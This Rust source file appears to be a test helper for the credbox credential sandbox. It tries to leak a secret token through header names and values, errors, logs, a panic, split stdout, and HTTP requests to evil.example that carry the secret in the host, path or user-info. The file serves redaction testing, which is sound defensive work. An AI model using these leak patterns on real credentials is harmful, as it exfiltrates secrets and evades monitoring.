//! Puts the secret it is given (config or environment `API_TOKEN`) into
//! one place a helper controls, chosen by config `MODE`, in mixed case:
//! header names (with each validation failure that quotes a name), header
//! values, the token, error messages of each kind, log lines, a panic
//! message, a refused URL's host, path or user info, and stdout cut at
//! the 64 KiB capture boundary. `MODE=hdr` returns the framing or hop-by-hop
//! header of index `HEADER` in its list (value `v`).

use std::io::Write;

use credbox_guest::http::Client;
use credbox_guest::{Credential, Error, Helper, Request, config_required, log};

struct LeakEverywhere;

/// `s` with every other ASCII letter's case flipped.
fn mixed(s: &str) -> String {
    s.chars()
        .enumerate()
        .map(|(i, c)| match i % 2 {
            0 => c.to_ascii_uppercase(),
            _ => c.to_ascii_lowercase(),
        })
        .collect()
}

impl Helper for LeakEverywhere {
    fn fetch(_request: Request) -> Result<Credential, Error> {
        let secret = config_required("API_TOKEN")?;
        let m = mixed(&secret);
        let message = format!("failed with {m} here");
        let with = |name: &str, value: &str| Ok(Credential::new().header(name, value));
        match config_required("MODE")?.as_str() {
            "name-empty" => with(&m, ""),
            "name-long" => with(&m, &"v".repeat(9000)),
            "name-crlf" => with(&m, "a\r\nb"),
            "name-token" => with(&format!("{m} x"), "v"),
            "name-twice" => Ok(Credential::new().header(&m, "1").header(&secret, "2")),
            "name-hop" => with(&format!("{m}\u{2028}Host"), "v"),
            "hdr" => {
                // By index: a config value of 6 bytes or more is a secret
                // to credbox's redactor, so names are not passed in.
                const NAMES: [&str; 10] = [
                    "Host",
                    "content-length",
                    "Transfer-Encoding",
                    "Connection",
                    "Upgrade",
                    "TE",
                    "Expect",
                    "Keep-Alive",
                    "Proxy-Connection",
                    "Trailer",
                ];
                let i: usize = config_required("HEADER")?
                    .parse()
                    .map_err(|_| Error::misconfigured("HEADER is not an index"))?;
                with(NAMES[i], "v")
            }
            "value-control" => with("X-Key", &format!("{m}\u{1}")),
            "token" => Ok(Credential::token(format!("{m} {m}"))),
            "misconfigured" => Err(Error::misconfigured(message)),
            "denied" => Err(Error::denied(message)),
            "unavailable" => Err(Error::unavailable(message)),
            "other" => Err(Error::other(message)),
            "log" => {
                for line in [&m, &secret, &format!("Bearer {m}"), &message] {
                    log::warn(line);
                    log::error(line);
                }
                Err(Error::other("logged"))
            }
            "panic" => panic!("{message}"),
            "deny-host" => Client::new()
                .get(&format!("https://{m}.evil.example/"))
                .send()
                .map(|_| Credential::bearer("sent")),
            "deny-path" => Client::new()
                .get(&format!("https://evil.example/{m}?q={m}#{m}"))
                .send()
                .map(|_| Credential::bearer("sent")),
            "deny-userinfo" => Client::new()
                .get(&format!("https://{m}:{m}@evil.example/"))
                .send()
                .map(|_| Credential::bearer("sent")),
            "stdout-split" => {
                // The secret straddles the 64 KiB capture limit, or that
                // plus config `SHIFT` bytes.
                let shift: usize = credbox_guest::config("SHIFT")
                    .and_then(|s| s.parse().ok())
                    .unwrap_or(0);
                // 49 lines of 1337 bytes, then a 50th (the last that
                // `-v` shows) holding the secret.
                let line = format!("{}\n", "f".repeat(1336));
                let pad = (64 << 10) + shift - 49 * line.len() - secret.len() / 2;
                let mut out = std::io::stdout().lock();
                let _ = out.write_all(line.repeat(49).as_bytes());
                let _ = out.write_all("g".repeat(pad).as_bytes());
                let _ = out.write_all(m.as_bytes());
                let _ = out.write_all(b"\n");
                let _ = out.flush();
                Err(Error::other("printed"))
            }
            other => Err(Error::misconfigured(format!("unknown MODE {other}"))),
        }
    }
}

credbox_guest::export!(LeakEverywhere);
